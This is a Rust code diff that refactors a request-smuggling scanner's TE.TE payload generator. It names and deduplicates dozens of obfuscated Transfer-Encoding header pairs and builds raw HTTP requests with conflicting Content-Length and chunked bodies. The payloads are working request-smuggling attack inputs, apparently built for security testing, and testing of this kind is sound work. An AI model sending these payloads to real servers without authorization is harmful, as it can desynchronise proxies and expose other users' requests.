@@ -1,153 +1,277 @@
-use super::{format_cookies, format_custom_headers};
+use super::{
+    PayloadIter, RequestParts,
+    te_variations::{te_header_extended_variations, te_header_variations},
+};
 
 /// Generate TE.TE (Transfer-Encoding obfuscation) attack payloads
 /// These payloads use two Transfer-Encoding headers to test for parser discrepancies
-pub fn get_te_te_payloads(
+pub fn te_te_payloads(
     path: &str,
     host: &str,
     method: &str,
     custom_headers: &[String],
     cookies: &[String],
-) -> Vec<String> {
-    let custom_header_str = format_custom_headers(custom_headers);
-    let cookie_str = format_cookies(cookies);
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    te_te_with(te_te_pairs(), parts)
+}
 
+/// TE.TE payloads for `--extended`: a plain `Transfer-Encoding: chunked`
+/// followed by each CL.TE variation, default or extended, that the default
+/// TE.TE pairs do not already send.
+pub fn te_te_extended_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    let default = te_te_pairs();
+    let pairs = te_header_variations()
+        .into_iter()
+        .chain(te_header_extended_variations())
+        .filter(|(name, te2)| !default.iter().any(|(n, _, t)| n == name || t == te2))
+        .map(|(name, te2)| (name, "Transfer-Encoding: chunked".to_string(), te2))
+        .collect();
+    te_te_with(pairs, parts)
+}
+
+/// Named `(first, second)` Transfer-Encoding header pairs of the default set.
+fn te_te_pairs() -> Vec<(String, String, String)> {
     let te_variations = vec![
         // === Basic dual header variations ===
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: x-custom"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: cow"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: compress"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: deflate"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: gzip"),
+        (
+            "dual-identity",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: identity",
+        ),
+        (
+            "dual-x-custom",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: x-custom",
+        ),
+        (
+            "dual-cow",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: cow",
+        ),
+        (
+            "dual-compress",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: compress",
+        ),
+        (
+            "dual-deflate",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: deflate",
+        ),
+        (
+            "dual-gzip",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: gzip",
+        ),
         // === Reversed dual chunk (revdualchunk) ===
-        ("Transfer-Encoding: identity", "Transfer-Encoding: chunked"),
+        (
+            "reversed-dual",
+            "Transfer-Encoding: identity",
+            "Transfer-Encoding: chunked",
+        ),
         // === Combined encodings ===
         (
+            "gzip-chunked",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: gzip, chunked",
         ),
         (
+            "chunked-identity",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: chunked, identity",
         ),
         (
+            "identity-chunked",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: identity, chunked",
         ),
         // === Nested encodings (nested) ===
         (
+            "nested-identity",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: identity, chunked, identity",
         ),
         // === Whitespace variations for second header ===
-        ("Transfer-Encoding: chunked", " Transfer-Encoding: chunked"),
-        ("Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding : chunked"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding:\tchunked"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding:  chunked"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding:chunked"),
+        (
+            "space-prefix",
+            "Transfer-Encoding: chunked",
+            " Transfer-Encoding: chunked",
+        ),
+        (
+            "tab-prefix",
+            "Transfer-Encoding: chunked",
+            "\tTransfer-Encoding: chunked",
+        ),
+        (
+            "space-before-colon",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding : chunked",
+        ),
+        (
+            "tab-after-colon",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding:\tchunked",
+        ),
+        (
+            "double-space-after-colon",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding:  chunked",
+        ),
+        (
+            "nospace",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding:chunked",
+        ),
         // === Quote variations ===
         (
+            "double-quoted",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: \"chunked\"",
         ),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: 'chunked'"),
+        (
+            "single-quoted",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: 'chunked'",
+        ),
         // === Case variations ===
-        ("Transfer-Encoding: chunked", "transfer-encoding: chunked"),
-        ("Transfer-Encoding: chunked", "TRANSFER-ENCODING: CHUNKED"),
-        ("Transfer-Encoding: chunked", "TRANSFER-ENCODING: chunked"),
-        ("Transfer-Encoding: chunked", "TrAnSfEr-EnCoDiNg: ChUnKeD"),
-        ("Transfer-Encoding: chunked", "Transfer-encoding: chunked"),
+        (
+            "lowercase",
+            "Transfer-Encoding: chunked",
+            "transfer-encoding: chunked",
+        ),
+        (
+            "uppercase",
+            "Transfer-Encoding: chunked",
+            "TRANSFER-ENCODING: CHUNKED",
+        ),
+        (
+            "uppercase-name",
+            "Transfer-Encoding: chunked",
+            "TRANSFER-ENCODING: chunked",
+        ),
+        (
+            "mixed-case",
+            "Transfer-Encoding: chunked",
+            "TrAnSfEr-EnCoDiNg: ChUnKeD",
+        ),
+        (
+            "lowercase-tail",
+            "Transfer-Encoding: chunked",
+            "Transfer-encoding: chunked",
+        ),
         // === Header name variations ===
-        ("Transfer-Encoding: chunked", "Transfer_Encoding: chunked"),
-        ("Transfer-Encoding: chunked", "Transfer Encoding: chunked"),
-        ("Transfer-Encoding: chunked", "Transfer\\Encoding: chunked"),
+        (
+            "underscore-name",
+            "Transfer-Encoding: chunked",
+            "Transfer_Encoding: chunked",
+        ),
+        (
+            "space-name",
+            "Transfer-Encoding: chunked",
+            "Transfer Encoding: chunked",
+        ),
+        (
+            "backslash-name",
+            "Transfer-Encoding: chunked",
+            "Transfer\\Encoding: chunked",
+        ),
         // === Line folding variations ===
-        ("Transfer-Encoding: chunked", "Transfer-Encoding:\n chunked"),
         (
+            "linewrap-lf",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding:\n chunked",
+        ),
+        (
+            "linefold-space",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding:\r\n chunked",
         ),
         (
+            "linefold-tab",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding:\r\n\tchunked",
         ),
         // === Control character variations ===
         (
+            "vtab-after-colon",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding:\x0Bchunked",
         ),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked\r"),
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked\t"),
         (
+            "cr-suffix",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: chunked\r",
+        ),
+        (
+            "trailing-tab",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: chunked\t",
+        ),
+        (
+            "nul-suffix",
             "Transfer-Encoding: chunked",
             "Transfer-Encoding: chunked\x00",
         ),
         // === Truncated/lazygrep variation ===
-        ("Transfer-Encoding: chunked", "Transfer-Encoding: chunk"),
+        (
+            "truncated-value",
+            "Transfer-Encoding: chunked",
+            "Transfer-Encoding: chunk",
+        ),
         // === Bad setup line endings ===
         (
+            "bare-cr-setup",
             "Transfer-Encoding: chunked",
             "Foo: bar\rTransfer-Encoding: chunked",
         ),
         (
+            "bare-lf-setup",
             "Transfer-Encoding: chunked",
             "Foo: bar\nTransfer-Encoding: chunked",
         ),
         // === Content-Encoding confusion (contentEnc) ===
-        ("Transfer-Encoding: chunked", "Content-Encoding: chunked"),
-        // === URL-encoded variations ===
-        ("Transfer-Encoding: chunked", "Transfer-%45ncoding: chunked"),
-        // === Connection header combination ===
         (
+            "content-encoding",
             "Transfer-Encoding: chunked",
-            "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
+            "Content-Encoding: chunked",
         ),
-    ];
-
-    // Add extended ASCII variations for TE.TE (bytes > 0x7F)
-    let extended_te_te_variations: Vec<(String, String)> = vec![
-        // NEL character (0x85)
+        // === URL-encoded variations ===
         (
-            "Transfer-Encoding: chunked".to_string(),
-            format!(
-                "Transfer-Encoding{}: chunked",
-                String::from_utf8_lossy(&[0x85])
-            ),
+            "urlencoded-name",
+            "Transfer-Encoding: chunked",
+            "Transfer-%45ncoding: chunked",
         ),
-        // NBSP (0xA0)
+        // === Connection header combination ===
         (
-            "Transfer-Encoding: chunked".to_string(),
-            format!(
-                "Transfer-Encoding{}: chunked",
-                String::from_utf8_lossy(&[0xA0])
-            ),
+            "connection-listed",
+            "Transfer-Encoding: chunked",
+            "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
         ),
     ];
 
-    let mut payloads = Vec::with_capacity(te_variations.len() + extended_te_te_variations.len());
-    for (te1, te2) in te_variations {
-        payloads.push(format!(
-            "{} {} HTTP/1.1\r\n\
-            Host: {}\r\n\
-            {}\
-            {}\
-            Content-Length: 4\r\n\
-            {}\r\n\
-            {}\r\n\
-            \r\n\
-            1\r\n\
-            A\r\n\
-            0\r\n\
-            \r\n",
-            method, path, host, custom_header_str, cookie_str, te1, te2
-        ));
-    }
+    let mut pairs: Vec<(String, String, String)> = te_variations
+        .into_iter()
+        .map(|(name, te1, te2)| (name.to_string(), te1.to_string(), te2.to_string()))
+        .collect();
+    // Send each header pair once, under its first name.
+    super::dedup_preserving_order(&mut pairs, |(_, te1, te2)| (te1.clone(), te2.clone()));
+    pairs
+}
 
-    // Add extended ASCII variations
-    for (te1, te2) in extended_te_te_variations {
-        payloads.push(format!(
+fn te_te_with(pairs: Vec<(String, String, String)>, parts: RequestParts) -> PayloadIter {
+    let names: Vec<String> = pairs.iter().map(|(name, _, _)| name.clone()).collect();
+
+    PayloadIter::new(pairs.len(), move |i| {
+        let (_, te1, te2) = &pairs[i];
+        format!(
             "{} {} HTTP/1.1\r\n\
             Host: {}\r\n\
             {}\
@@ -160,9 +284,21 @@ pub fn get_te_te_payloads(
             A\r\n\
             0\r\n\
             \r\n",
-            method, path, host, custom_header_str, cookie_str, te1, te2
-        ));
-    }
+            parts.method, parts.path, parts.host, parts.headers, parts.cookies, te1, te2
+        )
+    })
+    .named(move |i, _| names[i].clone())
+}
 
-    payloads
+/// Eagerly collected [`te_te_payloads`]
+pub fn get_te_te_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    te_te_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
 }